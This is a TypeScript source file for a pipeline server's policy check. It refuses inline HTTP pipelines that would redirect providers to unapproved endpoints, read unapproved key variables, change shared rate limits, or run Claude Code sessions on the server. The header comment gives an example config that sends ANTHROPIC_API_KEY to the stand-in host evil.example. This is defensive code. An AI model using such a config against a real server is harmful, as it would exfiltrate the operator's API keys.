// What a pipeline sent inline over HTTP may say about providers. Its author holds a token, not the
// server's keys: left alone, `providers: { x: { base_url: https://evil.example, api_key_env:
// ANTHROPIC_API_KEY } }` would send the key to an address of the author's choosing (any variable
// of the server's environment, for that matter), and `max_concurrency: 1` on `anthropic` would set
// the gate every run of the server shares. So an inline pipeline may name a provider's type (but
// not retype a built-in name: a gate's default limits follow its type) and prices (its own run's
// bill), but an endpoint only from the operator's allow-list, a key for the vendor's own endpoint
// only from the vendor's standard variables or the operator's list, a key for an allowed endpoint
// only if the operator tied the two (`URL=VAR`), and no gate limits at all. Files
// under `--root` are the operator's and are not checked; `--trust-inline-providers` lifts it all.
// Nor may it run a `claude_code` step: a Claude Code session runs tools (a shell, with
// `bypassPermissions`) on this machine, with the server's environment.
// Names of its own stay allowed (a `mock`, an allowed base_url under a name that says what it is),
// on every request: what each name costs the process is bounded elsewhere — idle gates of such
// names are let go of past a cap (resilience/gate-registry.ts), and the metrics fold the
// (provider, model) pairs past theirs into `other` (telemetry/metrics.ts).
import type { LoadedPipeline } from '../config/loader.js';
import type { DocPath } from '../config/path.js';
import { BUILTIN_PROVIDERS, type Pipeline, type ProviderConfig, type Step } from '../config/schema.js';
import { normalizeUrl } from '../providers/base-url.js';
import { PROVIDER_ENV, providerType } from '../providers/settings.js';
import { parseAllowedBaseUrl } from './allowed-base-url.js';
import { HttpError } from './http-error.js';

export interface InlineProviderPolicy {
  /**
   * Base URLs an inline pipeline may point a provider at (compared normalized), each `URL` (no key
   * goes there) or `URL=VAR` (the key in VAR may go there, and only there).
   */
  allowBaseUrls?: readonly string[];
  /** Variables an inline pipeline may name in `api_key_env`, beyond the vendors' standard ones. */
  allowKeyEnv?: readonly string[];
  /** Inline pipelines may configure providers as freely as files (a server whose token holders hold the keys). */
  trust?: boolean;
}

/** Settings of a provider that shape the gate every run of the server shares. */
const GATE_FIELDS = ['max_concurrency', 'max_queue', 'timeout', 'circuit_breaker', 'rate_limit'] as const;

/** Throws a 403 naming the first setting of an inline pipeline's `providers:` the policy forbids. */
export function checkInlineProviders(loaded: LoadedPipeline, policy: InlineProviderPolicy = {}): void {
  if (policy.trust) return;
  const allowedUrls = new Map<string, Set<string>>();
  for (const entry of policy.allowBaseUrls ?? []) {
    const { url, keyEnv } = parseAllowedBaseUrl(entry);
    const keys = allowedUrls.get(normalizeUrl(url)) ?? new Set<string>();
    if (keyEnv !== undefined) keys.add(keyEnv);
    allowedUrls.set(normalizeUrl(url), keys);
  }
  const allowedVars = new Set(policy.allowKeyEnv ?? []);
  eachInlinePipeline(loaded.pipeline, [], (pipeline, at) => {
    forEachStep(pipeline.steps, [...at, 'steps'], (step, path) => {
      if (step.type !== 'claude_code') return;
      const { line, col } = loaded.locate([...path, 'type']);
      throw new HttpError(
        403,
        `${loaded.file}:${line}:${col}: ${path.join('.')}: this server does not run claude_code steps sent inline: a Claude Code session runs tools on the server, with its environment`,
        'run a pipeline file under --root, or ask the operator to start the server with --trust-inline-providers',
      );
    });
    for (const [name, config] of Object.entries(pipeline.providers ?? {})) {
      const path = [...at, 'providers', name];
      const refuse = (field: string, message: string, hint: string): never => {
        const { line, col } = loaded.locate([...path, field]);
        throw new HttpError(403, `${loaded.file}:${line}:${col}: ${path.join('.')}.${field}: ${message}`, hint);
      };
      // Gates are keyed by name, and a gate's default limits follow its type: `mock: { type: openai }`
      // would give the mock gate of every run 10 slots, `anthropic: { type: mock }` the Anthropic
      // gate 10,000. A built-in name keeps its own type; a name of the pipeline's own takes any.
      if (config.type !== undefined && isBuiltinName(name) && config.type !== name) {
        refuse(
          'type',
          `a provider named ${name} is the server's ${name}: an inline pipeline cannot give it another type (its shared gate's limits follow the type)`,
          `drop providers.${name}.type, or declare the provider under a name of your own (e.g. my_${config.type})`,
        );
      }
      // A vendor's own endpoint under a name of the pipeline's own would be the server's account
      // with a gate of its own: N names, N times the server's max_concurrency, and calls going on
      // while the server's breaker for that vendor is open. Its endpoint is reached by its name.
      if (
        !isBuiltinName(name) &&
        config.base_url === undefined &&
        config.type !== undefined &&
        config.type !== 'mock'
      ) {
        refuse(
          'type',
          `an inline pipeline reaches ${config.type}'s own endpoint only as \`${config.type}\`, whose gate holds the server's limits: under another name it would have a gate of its own`,
          `use provider: ${config.type} in the steps (and drop providers.${name}), or give it a base_url the operator allows (\`elexirion serve --allow-base-url URL\`)`,
        );
      }
      if (config.base_url !== undefined && !allowedUrls.has(normalizeUrl(config.base_url))) {
        refuse(
          'base_url',
          `this server does not let an inline pipeline send calls to ${config.base_url}`,
          'the operator can allow it (`elexirion serve --allow-base-url URL`), or run a pipeline file under --root',
        );
      }
      // A key follows its endpoint: with a base_url, only a key the operator tied to that URL
      // (without api_key_env none is sent at all — see resolveProviderSettings).
      if (config.base_url !== undefined && config.api_key_env !== undefined) {
        const url = normalizeUrl(config.base_url);
        if (!allowedUrls.get(url)?.has(config.api_key_env)) {
          refuse(
            'api_key_env',
            `this server does not send the key in ${config.api_key_env} to ${config.base_url}`,
            `drop api_key_env to call it without a key, or ask the operator to tie the two (\`elexirion serve --allow-base-url ${url}=${config.api_key_env}\`)`,
          );
        }
      } else if (config.api_key_env !== undefined && !standardKeyVariables(name, config).includes(config.api_key_env)) {
        if (!allowedVars.has(config.api_key_env)) {
          refuse(
            'api_key_env',
            `this server does not let an inline pipeline read ${config.api_key_env} as a key`,
            'drop api_key_env to use the vendor’s standard variable, ask the operator to allow it (`elexirion serve --allow-key-env NAME`), or run a pipeline file under --root',
          );
        }
      }
      for (const field of GATE_FIELDS) {
        if (config[field] !== undefined) {
          refuse(
            field,
            `the limits of a provider are the server's: every run shares its gate, so an inline pipeline cannot set them`,
            `remove providers.${name}.${field}; the operator sets limits in a pipeline file under --root`,
          );
        }
      }
    }
  });
}

function isBuiltinName(name: string): boolean {
  return (BUILTIN_PROVIDERS as readonly string[]).includes(name);
}

/** The standard key variables of the provider's type (none for the mock, or a type it cannot tell). */
function standardKeyVariables(name: string, config: ProviderConfig): readonly string[] {
  try {
    const type = providerType(name, config);
    return type === 'mock' ? [] : PROVIDER_ENV[type].keyVariables;
  } catch {
    return []; // an unknown provider: the loader has refused the pipeline already
  }
}

/** The pipeline and every pipeline written inside it (`pipeline:` steps, in `parallel` groups too). */
function eachInlinePipeline(pipeline: Pipeline, at: DocPath, visit: (p: Pipeline, at: DocPath) => void): void {
  visit(pipeline, at);
  forEachStep(pipeline.steps, [...at, 'steps'], (step, path) => {
    if (step.type === 'pipeline' && step.pipeline) eachInlinePipeline(step.pipeline, [...path, 'pipeline'], visit);
  });
}

/** Every step of a list, the sub-steps of `parallel` groups too (not those of child pipelines). */
function forEachStep(list: readonly Step[], at: DocPath, visit: (step: Step, path: DocPath) => void): void {
  list.forEach((step, i) => {
    visit(step, [...at, i]);
    if (step.type === 'parallel') forEachStep(step.steps, [...at, i, 'steps'], visit);
  });
}
